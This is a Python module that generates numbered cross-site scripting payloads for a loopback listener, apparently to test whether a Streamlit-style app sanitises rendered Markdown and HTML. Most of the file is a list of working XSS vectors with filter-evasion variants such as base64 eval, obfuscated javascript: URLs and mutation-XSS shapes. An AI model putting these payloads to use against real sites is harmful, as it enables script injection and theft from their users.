"""Generated cross-site scripting payloads aimed at a loopback listener.

Every payload tries two things: to run script (``window.__xss`` set, ``alert``, and a
``fetch`` of the listener) and to load a resource from the listener. Each carries its own
number in the URLs it points at, so a request reaching the listener names the payload (and
so the page and the code path) that let it through.

The vectors are written out by hand (script tags, event handlers on many elements,
``javascript:`` URLs, SVG, CSS ``url()``, ``<meta refresh>``, ``<base>``, mutation-XSS
shapes, Markdown links and images, Streamlit's own Markdown extensions, KaTeX); the
variants (upper-cased markup, entity-encoded once, behind a context break-out) are
generated from them.
"""

from __future__ import annotations

import base64
import html
import re
from dataclasses import dataclass

BREAKOUT = "\"'></div></span></p></style></script></title></textarea>--> "
"""Closes whatever attribute, element or comment the text might have been put in."""

# {js}: runs script and reports to the listener; {url}: a resource on the listener.
# {js} has no spaces, so it also works as an unquoted attribute value.
VECTORS: tuple[str, ...] = (
    # script elements
    "<script>{js}</script><img src={url}>",
    '<script src="{url}"></script>',
    "<script>/*</script><img src={url} onerror={js}>*/</script>",
    "<script type=module>{js}</script><link rel=stylesheet href={url}>",
    # event handlers on many elements
    '<img src="{url}" onerror="{js}">',
    "<img src=x onerror={js}><img src={url}>",
    "<img/src={url}/onerror={js}>",
    '<img src="{url}" onload="{js}">',
    '<svg onload="{js}"><image href="{url}" /></svg>',
    "<svg><script>{js}</script><image xlink:href={url} /></svg>",
    '<svg><animate onbegin="{js}" attributeName="x" dur="1s" /><image href="{url}"/></svg>',
    '<svg><set onbegin="{js}" attributeName="x" to="1" /><use href="{url}#x" /></svg>',
    '<body onload="{js}" background="{url}">',
    '<iframe src="{url}" onload="{js}"></iframe>',
    '<iframe srcdoc="&lt;img src={url} onerror={js}&gt;"></iframe>',
    '<iframe src="javascript:{js}"></iframe><img src={url}>',
    '<details open ontoggle="{js}"><summary style="background:url({url})">x</summary></details>',
    '<input autofocus onfocus="{js}" type="image" src="{url}">',
    '<select autofocus onfocus="{js}"><option style="background:url({url})">x</select>',
    '<video poster="{url}" onerror="{js}"><source src="{url}" onerror="{js}"></video>',
    '<audio src="{url}" onerror="{js}" autoplay></audio>',
    '<object data="{url}" onerror="{js}"></object>',
    '<embed src="{url}" onload="{js}">',
    '<marquee onstart="{js}" style="background:url({url})">x</marquee>',
    '<div onmouseover="{js}" style="position:fixed;inset:0;background:url({url})">x</div>',
    '<x onpointerenter="{js}" style="display:block;background-image:url({url})">x</x>',
    '<table background="{url}"><tr><td onclick="{js}">x</td></tr></table>',
    '<img srcset="{url} 1x" onerror="{js}">',
    '<picture><source srcset="{url}"><img onerror="{js}" src=x></picture>',
    '<image src="{url}" onerror="{js}">',
    # javascript: and data: URLs
    '<a href="javascript:{js}" style="background:url({url})">click</a>',
    '<a href="JaVaScRiPt:{js}"><img src={url}></a>',
    '<a href="java&#x09;script:{js}"><img src={url}></a>',
    '<a href="javascript&colon;{js}"><img src={url}></a>',
    '<a href="{url}" ping="{url}">link</a><img src={url}>',
    '<form action="{url}"><button formaction="javascript:{js}">go</button></form><img src={url}>',
    '<object data="data:text/html;base64,{b64script}"></object><img src={url}>',
    '<iframe src="data:text/html,&lt;script&gt;{js}&lt;/script&gt;"></iframe><img src={url}>',
    "<img src=x onerror=\"eval(atob('{b64js}'))\"><img src={url}>",
    # CSS
    '<link rel="stylesheet" href="{url}"><link rel="icon" href="{url}">',
    '<style>@import "{url}";</style><img src=x onerror={js}>',
    "<style>body{{background:url({url})}}</style><img src=x onerror={js}>",
    '<div style="background-image:url({url});width:expression({js})">x</div>',
    '<p style="list-style:url({url})">x</p><img src=x onerror={js}>',
    "</style><img src={url} onerror={js}><style>",
    # document-level elements
    '<meta http-equiv="refresh" content="0;url={url}">',
    '<meta http-equiv="refresh" content="0;url=javascript:{js}"><img src={url}>',
    '<base href="{url}/"><img src=x onerror={js}>',
    '<link rel="prefetch" href="{url}"><img src=x onerror={js}>',
    # parser confusion (mutation XSS, comments, raw-text elements)
    "<math><mtext><table><mglyph><style><img src={url} onerror={js}>",
    '<noscript><p title="</noscript><img src={url} onerror={js}>">',
    '<!--<img src="--><img src={url} onerror={js}>">',
    "<svg><style><img src={url} onerror={js}></style></svg>",
    "<xmp><img src={url} onerror={js}></xmp>",
    "<textarea><img src={url} onerror={js}></textarea>",
    "<title><img src={url} onerror={js}></title>",
    "<![CDATA[<img src={url} onerror={js}>]]>",
    "<scr\u200bipt>{js}</scr\u200bipt><img src={url}>",
    "<img\tsrc={url}\tonerror={js}>",
    "<img src={url}%00 onerror={js}>",
    "<scr&#0;ipt>{js}</script><img src={url}>",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-<img src={url}>",
    # Markdown
    "![x]({url})",
    "[click](javascript:{js}) ![x]({url})",
    "[click]( javascript:{js} ) [![x]({url})]({url})",
    '<{url}> ![x]({url} "t")',
    "![x][r] [r]: {url}",
    '![x](javascript:{js} "x") <img src={url}>',
    "**<img src={url} onerror={js}>** _x_ `<img src={url}>`",
    "[<img src={url} onerror={js}>](javascript:{js})",
    # Streamlit Markdown extensions and KaTeX
    ":red[<img src={url} onerror={js}>] :material/warning: :smile: ![x]({url})",
    ":blue-background[![x]({url})] :rainbow[[click](javascript:{js})]",
    "$$\\href{{javascript:{js}}}{{x}}$$ ![x]({url})",
    "$\\includegraphics{{{url}}}$ $\\htmlData{{x=1}}{{y}}$ <img src={url} onerror={js}>",
    "$$\\url{{javascript:{js}}}$$ $\\color{{red}}{{x}}$ ![y]({url})",
    # template injection
    "{{{{constructor.constructor('{js}')()}}}}<img src={url}>",
    "${{{js}}}<img src={url}>",
)


@dataclass(frozen=True)
class Payload:
    """One payload: its number, the variant it is, and its text."""

    number: int
    variant: str
    text: str


def _upper_markup(text: str) -> str:
    """Tag and attribute names upper-cased (URLs and script left alone)."""
    text = re.sub(r"<(/?)([a-zA-Z][\w:-]*)", lambda m: "<" + m[1] + m[2].upper(), text)
    return re.sub(r"(\s|/)([a-zA-Z][\w:-]*)=", lambda m: m[1] + m[2].upper() + "=", text)


VARIANTS = {
    "plain": lambda t: t,
    "upper": _upper_markup,
    "entities": html.escape,
    "breakout": lambda t: BREAKOUT + t,
}
"""Variants of a vector. Every vector is used plain and, when it has markup, upper-cased;
alternate vectors are entity-encoded once or put behind a context break-out."""


def _variants(index: int, vector: str) -> list[str]:
    chosen = ["plain"]
    if _upper_markup(vector) != vector:
        chosen.append("upper")
    chosen.append("entities" if index % 2 == 0 and html.escape(vector) != vector else "breakout")
    return chosen


def make_payloads(listener: str) -> list[Payload]:
    """Every vector in its variants, aimed at ``listener`` (``http://127.0.0.1:PORT``)."""
    out: list[Payload] = []
    for index, vector in enumerate(VECTORS):
        for variant in _variants(index, vector):
            n = len(out)
            js = f"window.__xss={n};alert({n});fetch('{listener}/js/{n}')"
            text = vector.format(
                js=js,
                url=f"{listener}/res/{n}",
                b64js=base64.b64encode(js.encode()).decode(),
                b64script=base64.b64encode(f"<script>{js}</script>".encode()).decode(),
            )
            out.append(Payload(n, variant, VARIANTS[variant](text)))
    return out
